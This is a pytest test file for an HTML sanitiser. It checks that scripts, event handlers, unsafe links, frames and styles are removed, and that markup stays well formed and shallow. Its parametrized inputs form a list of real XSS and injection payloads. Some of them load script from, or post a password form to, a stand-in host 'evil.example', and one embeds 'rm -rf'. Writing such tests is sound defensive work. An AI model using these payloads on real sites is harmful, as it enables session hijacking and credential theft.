import re

import pytest

from hub.web.cards import clean
from hub.web.taming import DEPTH, Place, tame

PLACE = Place(
    link=lambda text: text if text.startswith(("https://", "/")) else "",
    picture=lambda text: f"/here/{text}" if text.startswith("ours") else "",
    outside=lambda text: text if text.startswith("https://") else "",
)


def shown(html: str) -> str:
    return tame(html, PLACE)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        '<img src="ours" onload=alert(1)>',
        "<svg onload=alert(1)><circle/></svg>",
        "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        '<iframe src="https://evil.example"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>">',
        "<style>body { display: none }</style>",
        '<p style="background: url(//evil.example)">x</p>',
        '<link rel="stylesheet" href="//evil.example/x.css">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<form action="//evil.example"><input name="password"><button>x</button></form>',
        "<object data=x></object><embed src=x>",
        "<details ontoggle=alert(1) open>x</details>",
        "<textarea></textarea><script>alert(1)</script>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo '<script>alert(1)</script>' ?>",
        "<template><script>alert(1)</script></template>",
        "<scr<script>ipt>alert(1)</script>",
        '<img src="https://evil.example/pixel.gif">',
        '<video src="https://evil.example/x.mp4" onplay=alert(1) autoplay>',
        '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
        '<div hx-get="/-/logout" hx-trigger="load" data-copy="rm -rf" class="button">x</div>',
        '<p id="told" class="hidden" name="body">x</p>',
        "<input type=checkbox onclick=alert(1)>",
        "<body onload=alert(1)>",
        "<a href=https://x.example target=_blank onclick=alert(1)>x</a>",
        "<title></title><img src=x onerror=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex type=image src=1 onerror=alert(1)>",
        '<a href="https://x.example" style="position:fixed;inset:0">x</a>',
    ],
)
def test_nothing_that_acts_or_loads_comes_through(html: str) -> None:
    for result in (shown(html), str(clean(shown(html)))):
        tags = re.findall(r"<[^>]*>", result)
        assert not [tag for tag in tags if re.search(r"\son\w+=|style=|srcdoc|hx-|data-|formaction|target=", tag, re.I)]
        assert not [
            tag for tag in tags if re.match(r"</?(script|style|svg|iframe|form|base|meta|link|input|object)", tag)
        ]
        assert not [tag for tag in tags if re.search(r'(href|src)="(javascript|data|vbscript|//)', tag, re.I)]
        assert not re.search(r'<img[^>]*src="(?!/here/)', result)
        assert 'id="told"' not in result
    again = shown(html)
    assert str(clean(again)).replace(' rel="noopener noreferrer nofollow"', "") == again, "nh3 has nothing left to do"


def test_what_is_harmless_stays() -> None:
    html = '<p align="center"><b>x</b> <sub>2</sub></p><details><summary>More</summary>text</details><hr>'
    assert shown(html) == html


def test_everything_is_closed_and_nothing_is_closed_twice() -> None:
    assert shown("<b><i>x") == "<b><i>x</i></b>"
    assert shown("x</div></p></b>") == "x"
    assert shown("<b>x<i>y</b>z</i>") == "<b>x<i>y</i></b>z"
    assert shown("<ul><li>a<li>b</ul>") == "<ul><li>a</li><li>b</li></ul>"
    assert shown("<table><tr><td>a<td>b<tr><td>c</table>").count("<tr>") == 2
    assert shown("<p>a<p>b") == "<p>a</p><p>b</p>"


def test_a_signs_of_text_are_escaped_once() -> None:
    assert shown("a < b & c &lt;d&gt; &amp;amp; &nbsp;") == "a &lt; b &amp; c &lt;d&gt; &amp;amp; \xa0"


def test_headings_are_moved_down_and_never_skip_a_level() -> None:
    assert shown("<h1>a</h1><h4>b</h4><h2>c</h2>") == "<h2>a</h2><h3>b</h3><h3>c</h3>"
    assert shown("<h6>a</h6>") == "<h2>a</h2>"


def test_a_picture_of_ours_is_shown_and_one_from_elsewhere_is_a_link() -> None:
    assert shown('<img src="ours.png" alt="a &quot;b&quot;" width="20" height="3em">') == (
        '<img src="/here/ours.png" alt="a &quot;b&quot;" width="20" loading="lazy">'
    )
    link = shown('<img src="https://x.example/a/badge.svg">')
    assert link.startswith('<a class="elsewhere" href="https://x.example/a/badge.svg"')
    assert ">badge.svg</a>" in link
    assert shown('<a href="/y"><img src="https://x.example/b.svg" alt="B"></a>').count("<a") == 1
    assert "<img" not in shown('<img src="data:image/png;base64,AAAA" alt="dot">')
    assert "dot" in shown('<img src="data:image/png;base64,AAAA" alt="dot">')


def test_ids_are_kept_apart_from_those_of_the_page_and_of_each_other() -> None:
    assert shown('<p id="main">a</p><p id="main">b</p>') == '<p id="card-main">a</p><p>b</p>'
    assert shown('<a name="top">x</a>') == '<a id="card-top">x</a>'


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "".join(f"<b id={number}>" for number in range(20_000)) + "<p>x" * 20_000,
        "<table>" * 50_000,
        "<!--" * 100_000,
        "<" * 400_000,
        '<a "' * 100_000,
        "<a href='" * 50_000,
        "<script>" * 50_000,
        "<svg" * 100_000,
        "<a" + " b=c" * 100_000 + ">",
        "&" * 400_000,
        "</b>" * 100_000,
        "<li>" * 100_000,
        "<td>" * 100_000,
    ],
)
def test_whatever_it_is_it_stays_flat(html: str) -> None:
    result = shown(html)
    assert max_depth(result) <= 2 * DEPTH
    assert len(result) <= 6 * len(html) + 20_000
    clean(result)


def max_depth(html: str) -> int:
    depth = most = 0
    for slash, name in re.findall(r"<(/?)([a-z0-9]+)", html):
        if name not in ("br", "hr", "img", "wbr"):
            depth += -1 if slash else 1
            most = max(most, depth)
    return most
